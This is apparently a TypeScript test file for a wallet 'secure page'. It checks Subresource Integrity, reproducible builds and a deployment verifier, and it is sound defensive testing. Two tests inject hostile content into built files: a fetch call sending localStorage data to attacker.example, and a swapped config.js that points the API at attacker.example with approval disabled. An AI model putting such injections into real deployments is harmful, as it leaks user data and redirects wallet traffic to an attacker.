// Issue 32, "how an operator or auditor can check which code the secure page runs": SRI on
// every file index.html loads, one hash for the page, reproducible builds, and a verifier
// that compares a deployment with this source. Real builds, a real HTTP server, Chromium.
import { existsSync } from 'node:fs'
import { appendFile, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import type { Browser } from 'playwright-core'
import { serveStatic } from '../dev/staticServer'
import { CHROMIUM, launchBrowser } from '../e2e/browser'
import { buildSecurePage } from './build'
import { securePageCsp } from './config'
import { PAGE_FILES, pageHash, sri, withIntegrity } from './pageIntegrity'
import { verifyDeployment } from './verifyDeployment'

if (!existsSync(CHROMIUM)) throw new Error(`Chromium not found at ${CHROMIUM}: run the tests through npm test, which installs it`)
jest.setTimeout(120_000)

const options = { apiUrl: 'http://127.0.0.1:8787', rpcUrls: { 'eip155:1': 'http://127.0.0.1:8545' } }
let workdir: string
let browser: Browser | undefined
beforeAll(async () => {
  workdir = await mkdtemp(path.join(tmpdir(), 'portico-secure-integrity-'))
})
afterAll(async () => {
  await browser?.close()
  await rm(workdir, { recursive: true, force: true })
})

/** A built page served as a deployment would serve it; `tamper` changes its files first. */
async function deployment(name: string, tamper?: (dir: string) => Promise<void>) {
  const dir = path.join(workdir, name)
  const built = await buildSecurePage({ outdir: dir, ...options })
  await tamper?.(dir)
  const served = await serveStatic({ dir, csp: securePageCsp(built.config) })
  return { built, served, dir }
}

describe('the secure page build', () => {
  it('loads every file with SRI, and integrity.json holds those values and the hash of index.html', async () => {
    const { built, served, dir } = await deployment('plain')
    await served.close()
    const html = await readFile(path.join(dir, 'index.html'), 'utf8')
    for (const file of PAGE_FILES) {
      const value = sri(await readFile(path.join(dir, file)))
      expect(built.integrity.files[file]).toBe(value)
      expect(html).toMatch(new RegExp(`(src|href)="${file.replace('.', '\\.')}" integrity="${value.replace(/[+/]/g, '\\$&')}"`))
    }
    expect(built.integrity.page).toBe(pageHash(html))
    expect(JSON.parse(await readFile(path.join(dir, 'integrity.json'), 'utf8'))).toEqual(built.integrity)
  })

  it('is reproducible: two builds of one source and config have the same page hash', async () => {
    const [first, second] = await Promise.all([buildSecurePage({ outdir: path.join(workdir, 'r1'), ...options }), buildSecurePage({ outdir: path.join(workdir, 'r2'), ...options })])
    expect(second.integrity).toEqual(first.integrity)
    // Another config is another page (config.js holds the server and RPC URLs).
    const other = await buildSecurePage({ outdir: path.join(workdir, 'r3'), ...options, apiUrl: 'https://wallet-api.example' })
    expect(other.integrity.page).not.toBe(first.integrity.page)
    expect(other.integrity.files['main.js']).toBe(first.integrity.files['main.js'])
  })

  it('refuses a template that loads one of its files without SRI', () => {
    expect(() => withIntegrity('<link rel="stylesheet" href="styles.css"><script src="main.js"></script>', { 'styles.css': 'a', 'config.js': 'b', 'main.js': 'c' })).toThrow(
      'index.html does not load config.js',
    )
  })
})

describe('verifyDeployment', () => {
  it('says a deployment built from this source matches, with its page hash', async () => {
    const { built, served } = await deployment('intact')
    try {
      await expect(verifyDeployment(served.url)).resolves.toEqual({ matches: true, page: built.integrity.page, mismatches: [] })
    } finally {
      await served.close()
    }
  })

  it('names each file a deployment changed: a bundle with code added, an index.html without SRI', async () => {
    const { served } = await deployment('tampered', async (dir) => {
      await appendFile(path.join(dir, 'main.js'), '\n;fetch("https://attacker.example/?k="+localStorage.length)\n')
      const html = await readFile(path.join(dir, 'index.html'), 'utf8')
      await writeFile(path.join(dir, 'index.html'), html.replace(/ integrity="[^"]*"/g, ''))
    })
    try {
      const check = await verifyDeployment(served.url)
      expect(check.matches).toBe(false)
      expect(check.mismatches.map((line) => line.split(':')[0])).toEqual(['index.html', 'main.js'])
    } finally {
      await served.close()
    }
  })
})

describe('in Chromium', () => {
  it('runs the intact page, and runs no file whose bytes differ from what index.html names', async () => {
    browser = await launchBrowser()
    const intact = await deployment('browser-intact')
    const tampered = await deployment('browser-tampered', async (dir) => {
      // A config.js that sends the page to another server, served under the original index.html.
      await writeFile(path.join(dir, 'config.js'), 'globalThis.PORTICO_SECURE_CONFIG = {"apiUrl":"https://attacker.example","rpcUrls":{},"requireApproval":false}\n')
      await appendFile(path.join(dir, 'main.js'), '\n;globalThis.tampered = true\n')
    })
    const context = await browser.newContext()
    try {
      const page = await context.newPage()
      const errors: string[] = []
      page.on('console', (message) => {
        if (message.type() === 'error') errors.push(message.text())
      })
      await page.goto(intact.served.url)
      expect(await page.evaluate(() => (globalThis as { PORTICO_SECURE_CONFIG?: { apiUrl: string } }).PORTICO_SECURE_CONFIG?.apiUrl)).toBe('http://127.0.0.1:8787')
      expect(errors.filter((e) => /integrity/i.test(e))).toEqual([])

      await page.goto(tampered.served.url)
      await page.waitForLoadState('load')
      expect(await page.evaluate(() => (globalThis as { PORTICO_SECURE_CONFIG?: unknown }).PORTICO_SECURE_CONFIG)).toBeUndefined()
      expect(await page.evaluate(() => (globalThis as { tampered?: boolean }).tampered)).toBeUndefined()
      expect(errors.filter((e) => /integrity/i.test(e))).toHaveLength(2)
    } finally {
      await context.close()
      await Promise.all([intact.served.close(), tampered.served.close()])
    }
  })
})
